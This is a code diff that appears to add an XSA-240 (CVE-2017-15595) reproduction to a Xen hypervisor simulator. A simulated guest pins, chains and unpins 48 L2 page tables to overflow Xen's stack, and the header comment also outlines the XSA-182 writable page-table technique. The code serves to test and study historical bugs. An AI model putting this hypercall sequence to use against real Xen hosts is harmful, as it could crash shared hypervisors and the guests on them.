@@ -11,10 +11,18 @@
  * - XSA-182 (CVE-2016-6258): install a read-only linear entry in swapper_pg_dir pointing to
  *   swapper_pg_dir itself (allowed: Xen's linear page tables), then set _PAGE_RW on it. The fast
  *   path compares only the frame and presence: the guest has a writable view of its page tables.
+ * - XSA-240 (CVE-2017-15595): pin a row of empty L2 tables, link each to the next with a
+ *   read-only linear entry (allowed), unpin all but the first (each is now held only by the link
+ *   before it), then unpin the first. Xen de-types the chain in one recursion per table; with
+ *   enough tables its primary stack overflows into the guard page and Xen dies of a double fault
+ *   (src/xen/stack.ts). After the fix a table that holds a linear entry cannot be used as a linear
+ *   table: every second link is refused and the teardown stays one level deep.
  */
 import { vmalloc } from '../linux/vmalloc.js';
 import type { Kernel } from '../linux/kernel.js';
-import { kernel_entry_of, xen_set_entry_bits, xen_set_linear_entry } from '../linux/xen/hypercall.js';
+import { HYPERVISOR_mmu_update, kernel_entry_of, xen_set_entry_bits, xen_set_linear_entry } from '../linux/xen/hypercall.js';
+import { pin_pagetable_pfn, set_lowmem_page_rw } from '../linux/xen/pin.js';
+import { MMUEXT_PIN_L2_TABLE, MMUEXT_UNPIN_TABLE } from '../xen/hypercalls.js';
 import { ScriptedStrategy } from '../scheduler/strategy.js';
 import type { KGen } from '../scheduler/types.js';
 import { traced } from '../scheduler/traced.js';
@@ -22,7 +30,9 @@ import type { LinuxCpu } from '../linux/percpu.js';
 import { registerScenario, type Scenario } from './registry.js';
 import '../presets/xen.js';
 
+const _PAGE_PRESENT = 0x1n;
 const _PAGE_RW = 0x2n;
+const _PAGE_ACCESSED = 0x20n;
 const _PAGE_PSE = 0x80n;
 
 /** A guest kernel thread on CPU 0 running `body` inside the named function (the "module"). */
@@ -52,6 +62,27 @@ function setupXsa182(k: Kernel) {
   });
 }
 
+/**
+ * Tables in the XSA-240 chain: more than the 38 that overflow Xen 4.9.0's primary stack on the
+ * measured build (src/xen/stack.ts: 208 bytes of frames per L2 table torn down).
+ */
+const XSA240_TABLES = 48;
+
+function setupXsa240(k: Kernel) {
+  return pocThread(k, 'xsa240', 'xsa240_init', function* (cpu) {
+    const t: number[] = [];
+    for (let i = 0; i < XSA240_TABLES; i++) {
+      const pfn = k.allocPageTable(2) / 4096;
+      yield* set_lowmem_page_rw(k, cpu, pfn, false); // make_lowmem_page_readonly()
+      yield* pin_pagetable_pfn(k, cpu, MMUEXT_PIN_L2_TABLE, pfn);
+      t.push(pfn);
+    }
+    // Entry 0 of each table: a read-only linear entry to the next (a refused one is ignored).
+    for (let i = 0; i + 1 < t.length; i++) yield* HYPERVISOR_mmu_update(k, cpu, t[i] * 4096, (BigInt(t[i + 1]) << 12n) | _PAGE_PRESENT | _PAGE_ACCESSED);
+    for (let i = t.length - 1; i >= 0; i--) yield* pin_pagetable_pfn(k, cpu, MMUEXT_UNPIN_TABLE, t[i]);
+  });
+}
+
 export const scenarioXsa148: Scenario = {
   name: 'xsa148-l2-superpage-fastpath',
   seed: 'XSA-148',
@@ -70,5 +101,17 @@ export const scenarioXsa182: Scenario = {
   setup: setupXsa182,
 };
 
+export const scenarioXsa240: Scenario = {
+  name: 'xsa240-linear-pt-recursion',
+  seed: 'XSA-240',
+  description:
+    "Xen PV (XSA-240, CVE-2017-15595): a guest kernel pins 48 empty L2 tables, links each to the next with a read-only linear entry and unpins them from the last to the first. Before the fix the last unpin de-types the whole chain in one recursion (__put_page_type -> free_page_type -> put_page_from_l2e -> ...), 208 bytes of stack per table: Xen's 8 KiB primary stack overflows and it panics with a DOUBLE FAULT. After the fix every second link is refused (linear_pt_count) and the teardown stays shallow.",
+  presets: { buggy: 'xen-4.9.0-pv', fixed: 'xen-4.9.1-pv' },
+  notBlind:
+    'the crash needs 38 or more stacked L2 tables (208 bytes of Xen stack each on the measured build), each pinned, linked to the next and unpinned in order: over a hundred operations in one exact sequence (docs/historical-bugs.md).',
+  setup: setupXsa240,
+};
+
 registerScenario(scenarioXsa148);
 registerScenario(scenarioXsa182);
+registerScenario(scenarioXsa240);
